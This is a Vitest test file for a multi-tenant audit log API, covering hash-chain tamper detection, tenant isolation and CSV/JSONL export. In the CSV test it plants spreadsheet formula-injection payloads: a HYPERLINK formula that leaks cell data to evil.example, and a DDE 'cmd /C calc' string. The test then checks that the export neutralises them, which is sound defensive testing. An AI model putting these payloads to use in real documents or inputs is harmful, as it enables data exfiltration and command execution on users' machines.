import { env, runInDurableObject } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import type { AuditLog } from "../../../workers/audit-log";
import { call } from "../../support/http";
import { buildWorld, expectJson, PASSWORD, type World } from "../../support/world";

type Item = {
  seq: number;
  at: string;
  actor: { type: string; id: string | null; email: string | null };
  action: string;
  target: { type: string; id: string | null; name: string | null };
  ip: string | null;
  outcome: string;
  details: Record<string, unknown> | null;
  hash: string;
  prevHash: string;
};
type Page = { items: Item[]; nextCursor: string | null };

const audit = (w: World, query = "", token = w.users.tenantAdmin.token) => call(`/api/v1/audit${query}`, { token });

async function all(w: World, query = ""): Promise<Item[]> {
  const out: Item[] = [];
  let cursor: string | null = null;
  do {
    const sep = query ? "&" : "?";
    const page: Page = await expectJson<Page>(audit(w, `${query}${cursor ? `${sep}cursor=${encodeURIComponent(cursor)}` : ""}`), 200);
    out.push(...page.items);
    cursor = page.nextCursor;
    query = query || "?limit=200";
  } while (cursor);
  return out;
}

describe("audit API", () => {
  it("records 200 concurrent audited actions as exactly 200 events with contiguous seq, and verifies", async () => {
    const w = await buildWorld("aud-conc");
    const before = (await expectJson<Page>(audit(w, "?limit=1"), 200)).items[0]!.seq;
    const results = await Promise.all(
      Array.from({ length: 200 }, (_, i) => call("/api/v1/auth/tokens", { method: "POST", token: w.users.member.token, json: { name: `parallel ${i}` } })),
    );
    expect(results.map((r) => r.status)).toEqual(Array(200).fill(201));
    // Each request delivers its own event before answering; what a failed delivery left behind shows here.
    const pending = await env.TENANT_DB_S0.prepare("SELECT COUNT(*) AS n FROM audit_outbox WHERE tenant_id = ?").bind(w.tenantA.id).first<{ n: number }>();
    const created = (await all(w, "?action=auth.token_created&limit=200")).filter((e) => e.seq > before);
    expect(created, `${pending?.n} events were still in the outbox after the requests`).toHaveLength(200);
    expect(pending?.n).toBe(0);
    const everything = (await all(w, "?limit=200")).filter((e) => e.seq > before);
    expect(everything).toHaveLength(200);
    const seqs = everything.map((e) => e.seq).sort((a, b) => a - b);
    expect(seqs).toEqual(Array.from({ length: 200 }, (_, i) => before + 1 + i));
    expect(await expectJson(call("/api/v1/audit/verify", { token: w.users.tenantAdmin.token }), 200)).toMatchObject({ ok: true, firstBadSeq: null });
  }, 120_000);

  it("reports exactly the tampered seq", async () => {
    const w = await buildWorld("aud-tamper");
    const events = await all(w);
    const victim = events[Math.floor(events.length / 2)]!;
    const stub = env.AUDIT_LOG.get(env.AUDIT_LOG.idFromName(w.tenantA.id));
    await runInDurableObject(stub, (_o: AuditLog, state) => {
      state.storage.sql.exec("UPDATE events SET details = ? WHERE seq = ?", JSON.stringify({ forged: true }), victim.seq);
    });
    const verified = await expectJson<{ ok: boolean; firstBadSeq: number | null; count: number }>(
      call("/api/v1/audit/verify", { token: w.users.tenantAdmin.token }),
      200,
    );
    expect(verified).toMatchObject({ ok: false, firstBadSeq: victim.seq });
  }, 60_000);

  it("records identity actions with actor, target, IP and outcome, newest first", async () => {
    const w = await buildWorld("aud-detail");
    await call("/api/v1/auth/login", {
      method: "POST",
      json: { tenant: w.tenantA.slug, email: w.users.viewer.email, password: "wrong-password-123" },
      headers: { "CF-Connecting-IP": "198.51.100.23" },
    });
    const [failed] = (await expectJson<Page>(audit(w, "?action=auth.login_failed"), 200)).items;
    expect(failed).toMatchObject({
      action: "auth.login_failed",
      outcome: "failure",
      ip: "198.51.100.23",
      actor: { type: "user", id: w.users.viewer.id, email: w.users.viewer.email },
      target: { type: "user", id: w.users.viewer.id },
      details: { reason: "wrong_password" },
    });
    const items = await all(w);
    expect(items.map((e) => e.seq)).toEqual([...items.map((e) => e.seq)].sort((a, b) => b - a));
    const actions = new Set(items.map((e) => e.action));
    for (const a of ["user.created", "auth.password_set", "auth.login", "project.created", "role.created", "project.member_set"]) {
      expect(actions, a).toContain(a);
    }
    expect(JSON.stringify(items)).not.toContain(PASSWORD);
  }, 60_000);

  it("filters by action, actor and time range", async () => {
    const w = await buildWorld("aud-filter");
    const viewerLogins = await all(w, `?action=auth.login&actorId=${w.users.viewer.id}`);
    expect(viewerLogins.length).toBeGreaterThan(0);
    expect(viewerLogins.every((e) => e.action === "auth.login" && e.actor.id === w.users.viewer.id)).toBe(true);
    const future = await expectJson<Page>(audit(w, `?from=${encodeURIComponent(new Date(Date.now() + 3600_000).toISOString())}`), 200);
    expect(future.items).toEqual([]);
    const bad = await audit(w, "?from=yesterday");
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { code: string } }).error.code).toBe("validation_failed");
  }, 60_000);

  it("keeps tenants' logs apart (the tenant comes only from the credential); members and viewers get 403", async () => {
    const w = await buildWorld("aud-iso");
    // Naming tenant A anywhere in the request does not reach A's log.
    const mineB = await expectJson<Page>(
      call(`/api/v1/audit?limit=200&tenantId=${w.tenantA.id}&tenant=${w.tenantA.slug}`, {
        token: w.users.otherTenantAdmin.token,
        headers: { "X-Tenant-Id": w.tenantA.id },
      }),
      200,
    );
    const aUserIds = new Set(
      Object.values(w.users)
        .filter((u) => u.tenantSlug === w.tenantA.slug)
        .map((u) => u.id),
    );
    expect(mineB.items.length).toBeGreaterThan(0);
    expect(mineB.items.some((e) => e.actor.id && aUserIds.has(e.actor.id))).toBe(false);
    for (const who of ["member", "viewer", "projectAdmin"] as const) {
      expect((await audit(w, "", w.users[who].token)).status).toBe(403);
      expect((await call("/api/v1/audit/export", { token: w.users[who].token })).status).toBe(403);
      expect((await call("/api/v1/audit/verify", { token: w.users[who].token })).status).toBe(403);
    }
  }, 60_000);

  it("exports CSV with a BOM, Japanese intact and formula cells neutralised", async () => {
    const w = await buildWorld("aud-csv");
    const injected = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
    await expectJson(w.asAdmin("/api/v1/groups", { method: "POST", json: { name: injected } }), 201);
    await expectJson(w.asAdmin("/api/v1/groups", { method: "POST", json: { name: "編集部 渋谷チーム" } }), 201);
    await call("/api/v1/me", { token: w.users.member.token, headers: { "User-Agent": "@SUM(1+1)*cmd|' /C calc'!A0" } });
    await call("/api/v1/auth/tokens", { method: "POST", token: w.users.member.token, json: { name: "-2+3" }, headers: { "User-Agent": "+cmd" } });

    const res = await call("/api/v1/audit/export?format=csv", { token: w.users.tenantAdmin.token });
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("Content-Disposition")).toMatch(/^attachment; filename="audit-aud-csv-a-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.slice(3));
    const lines = text.split("\r\n").filter(Boolean);
    expect(lines[0]).toBe("seq,at,actor_type,actor_id,actor_email,action,target_type,target_id,target_name,ip,user_agent,outcome,details,prev_hash,hash");
    expect(text).toContain('"編集部 渋谷チーム"');
    // The injected name appears only as text: a cell never starts with = + - @.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`);
    expect(text).toContain(`"'+cmd"`);
    expect(text).not.toMatch(/(^|,)"[=+\-@\t\r]/m);
    // Oldest first, one line per event.
    const seqs = lines.slice(1).map((l) => Number(/^"(\d+)"/.exec(l)?.[1]));
    expect(seqs).toEqual([...seqs].sort((a, b) => a - b));
    expect(seqs.length).toBe((await all(w, "?limit=200")).length);
  }, 60_000);

  it("exports JSON Lines, within a time range", async () => {
    const w = await buildWorld("aud-jsonl");
    const res = await call(`/api/v1/audit/export?format=jsonl&to=${encodeURIComponent("2000-01-01T00:00:00Z")}`, { token: w.users.tenantAdmin.token });
    expect(res.status).toBe(200);
    expect(new TextDecoder().decode(await res.arrayBuffer())).toBe("");
    expect(res.headers.get("Content-Type")).toBe("application/x-ndjson; charset=utf-8");
    const full = await call("/api/v1/audit/export?format=jsonl", { token: w.users.tenantAdmin.token });
    const body = new TextDecoder().decode(await full.arrayBuffer());
    const rows = body
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Item);
    expect(rows.length).toBe((await all(w, "?limit=200")).length);
    // The tenant's first event opens the chain.
    expect(rows[0]).toMatchObject({ seq: 1, prevHash: "0".repeat(64), action: "user.created" });
    for (let i = 1; i < rows.length; i++) expect(rows[i]!.prevHash).toBe(rows[i - 1]!.hash);
  }, 60_000);

  it("records an authorization denial as access.denied", async () => {
    const w = await buildWorld("aud-denied");
    expect((await call("/api/v1/users", { token: w.users.member.token })).status).toBe(403);
    expect((await call(`/api/v1/projects/${w.p2}`, { token: w.users.viewer.token })).status).toBe(404);
    const denied = await all(w, "?action=access.denied");
    expect(denied.map((e) => [e.actor.id, e.outcome, e.target.type])).toEqual([
      [w.users.viewer.id, "denied", "project"],
      [w.users.member.id, "denied", "route"],
    ]);
  }, 60_000);
});
